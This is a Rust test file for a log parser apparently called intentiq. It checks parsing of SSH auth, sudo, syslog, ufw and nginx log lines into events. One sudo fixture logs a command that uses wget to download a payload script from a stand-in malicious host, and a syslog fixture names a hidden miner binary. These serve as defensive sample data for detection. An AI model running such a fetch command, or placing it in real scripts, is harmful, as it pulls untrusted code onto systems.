use intentiq::models::event::Event;
use intentiq::parser::{auth, nginx, syslog, ufw};

fn s(x: &str) -> String {
    x.to_string()
}

fn check(e: &Event, ts: &str, source: &str, user: Option<&str>, ip: Option<&str>, ty: &str, cmd: Option<&str>, msg: &str, size: Option<i64>) {
    assert_eq!(e.timestamp, ts);
    assert_eq!(e.source, source);
    assert_eq!(e.user.as_deref(), user);
    assert_eq!(e.ip.as_deref(), ip);
    assert_eq!(e.event_type, ty);
    assert_eq!(e.command.as_deref(), cmd);
    assert_eq!(e.message, msg);
    assert_eq!(e.size, size);
}

#[test]
fn auth_accepted_login() {
    let line = "May  6 09:12:01 server sshd[1023]: Accepted password for john from 192.168.1.10 port 53422 ssh2";
    let evs = auth::parse(line);
    assert_eq!(evs.len(), 1);
    check(&evs[0], "May  6 09:12:01", "auth.log", Some("john"), Some("192.168.1.10"), "ssh_login_success", None, line, None);
}

#[test]
fn auth_failed_login_of_invalid_user() {
    let line = "May  6 09:14:02 server sshd[1035]: Failed password for invalid user admin from 185.220.101.12 port 41234 ssh2";
    let evs = auth::parse(line);
    assert_eq!(evs.len(), 1);
    check(&evs[0], "May  6 09:14:02", "auth.log", Some("admin"), Some("185.220.101.12"), "ssh_login_failed", None, line, None);
}

#[test]
fn auth_failed_login_of_known_user() {
    let line = "May  6 09:14:03 server sshd[1036]: Failed password for root from 10.0.0.9 port 41235 ssh2";
    let evs = auth::parse(line);
    assert_eq!(evs.len(), 1);
    check(&evs[0], "May  6 09:14:03", "auth.log", Some("root"), Some("10.0.0.9"), "ssh_login_failed", None, line, None);
}

#[test]
fn auth_sudo_command() {
    let line = "May  6 09:16:05 server sudo: root : TTY=pts/0 ; PWD=/root ; COMMAND=/bin/bash";
    let evs = auth::parse(line);
    assert_eq!(evs.len(), 1);
    check(&evs[0], "May  6 09:16:05", "auth.log", Some("root"), None, "sudo_command", Some("/bin/bash"), line, None);
}

#[test]
fn auth_skips_other_lines_and_keeps_order() {
    let text = "May  6 09:12:01 server sshd[1023]: Accepted password for john from 192.168.1.10 port 53422 ssh2\r\n\
                May  6 09:12:02 server CRON[1]: something else\n\
                \n\
                May  6 09:17:30 server sudo: root : TTY=pts/0 ; PWD=/root ; COMMAND=/usr/bin/wget http://malicious.ru/payload.sh\n";
    let evs = auth::parse(text);
    assert_eq!(evs.len(), 2);
    assert_eq!(evs[0].event_type, "ssh_login_success");
    assert_eq!(evs[0].message, "May  6 09:12:01 server sshd[1023]: Accepted password for john from 192.168.1.10 port 53422 ssh2");
    assert_eq!(evs[1].command.as_deref(), Some("/usr/bin/wget http://malicious.ru/payload.sh"));
    assert!(auth::parse("").is_empty());
}

#[test]
fn auth_event_from_given_captures() {
    let caps = vec![Some(s("whole")), Some(s("May  6 09:00:00")), Some(s("alice")), Some(s("1.2.3.4"))];
    let e = auth::event_from_captures(2, &caps, "line");
    check(&e, "May  6 09:00:00", "auth.log", Some("alice"), None, "sudo_command", Some("1.2.3.4"), "line", None);
    let e = auth::event_from_captures(0, &vec![Some(s("w"))], "l");
    check(&e, "", "auth.log", None, None, "ssh_login_success", None, "l", None);
}

#[test]
fn syslog_events() {
    let text = "May  6 09:16:10 server systemd[1]: Started Session 102 of user root.\n\
                May  6 09:18:00 server kernel: suspicious binary executed: /tmp/.hidden/miner\n\
                May  6 09:19:00 server systemd[1]: Started Process ID 4242 (cron)\n\
                May  6 09:19:01 server systemd[1]: Reloading.";
    let evs = syslog::parse(text);
    assert_eq!(evs.len(), 3);
    check(&evs[0], "May  6 09:16:10", "syslog", Some("root"), None, "session_started", None, "May  6 09:16:10 server systemd[1]: Started Session 102 of user root.", None);
    check(&evs[1], "May  6 09:18:00", "syslog", None, None, "suspicious_binary", Some("/tmp/.hidden/miner"), "May  6 09:18:00 server kernel: suspicious binary executed: /tmp/.hidden/miner", None);
    check(&evs[2], "May  6 09:19:00", "syslog", None, None, "process_started", Some("cron"), "May  6 09:19:00 server systemd[1]: Started Process ID 4242 (cron)", None);
}

#[test]
fn syslog_event_from_given_captures() {
    let caps = vec![Some(s("w")), Some(s("t")), Some(s("bob"))];
    let e = syslog::event_from_captures(0, &caps, "x");
    check(&e, "t", "syslog", Some("bob"), None, "session_started", None, "x", None);
    let e = syslog::event_from_captures(1, &caps, "x");
    check(&e, "t", "syslog", None, None, "suspicious_binary", Some("bob"), "x", None);
}

#[test]
fn ufw_block() {
    let line = "May  6 09:20:01 server kernel: [UFW BLOCK] IN=eth0 SRC=45.33.32.156 DST=192.168.1.5 PROTO=TCP SPT=34567 DPT=80";
    let evs = ufw::parse(line);
    assert_eq!(evs.len(), 1);
    check(&evs[0], "May  6 09:20:01", "ufw", None, Some("45.33.32.156"), "firewall_block", None, line, None);
    assert!(ufw::parse("May  6 09:20:01 server kernel: [UFW ALLOW] IN=eth0").is_empty());
}

#[test]
fn nginx_status_classes() {
    let l1 = "192.168.1.10 - - [06/May/2026:09:10:01 +0000] \"GET /index.html HTTP/1.1\" 200 1024";
    let l2 = "10.0.0.1 - - [06/May/2026:09:10:02 +0000] \"GET /nope HTTP/1.1\" 404 12";
    let l3 = "10.0.0.1 - - [06/May/2026:09:10:03 +0000] \"GET /admin HTTP/1.1\" 403 0";
    let l4 = "10.0.0.1 - - [06/May/2026:09:10:04 +0000] \"POST /api HTTP/1.1\" 503 77";
    let l5 = "10.0.0.1 - - [06/May/2026:09:10:05 +0000] \"GET / HTTP/1.1\" 301 77";
    let text = format!("{}\n{}\n{}\n{}\n{}\n", l1, l2, l3, l4, l5);
    let evs = nginx::parse(&text);
    assert_eq!(evs.len(), 4);
    check(&evs[0], "06/May/2026:09:10:01 +0000", "nginx_access", None, Some("192.168.1.10"), "http_success", Some("GET /index.html HTTP/1.1"), l1, Some(1024));
    check(&evs[1], "06/May/2026:09:10:02 +0000", "nginx_access", None, Some("10.0.0.1"), "http_not_found", Some("GET /nope HTTP/1.1"), l2, Some(12));
    check(&evs[2], "06/May/2026:09:10:03 +0000", "nginx_access", None, Some("10.0.0.1"), "http_forbidden", Some("GET /admin HTTP/1.1"), l3, Some(0));
    check(&evs[3], "06/May/2026:09:10:04 +0000", "nginx_access", None, Some("10.0.0.1"), "http_server_error", Some("POST /api HTTP/1.1"), l4, Some(77));
}

#[test]
fn nginx_size_beyond_i64_is_none() {
    let line = "1.1.1.1 - - [06/May/2026:10:01:10 +0000] \"POST /admin/export HTTP/1.1\" 200 99999999999999999999";
    let evs = nginx::parse(line);
    assert_eq!(evs.len(), 1);
    assert_eq!(evs[0].size, None);
}

#[test]
fn nginx_event_from_given_captures() {
    let caps = vec![Some(s("w")), None, Some(s("t")), None, Some(s("+17"))];
    let e = nginx::event_from_captures(3, &caps, "x");
    check(&e, "t", "nginx_access", None, Some(""), "http_server_error", Some(""), "x", Some(17));
}
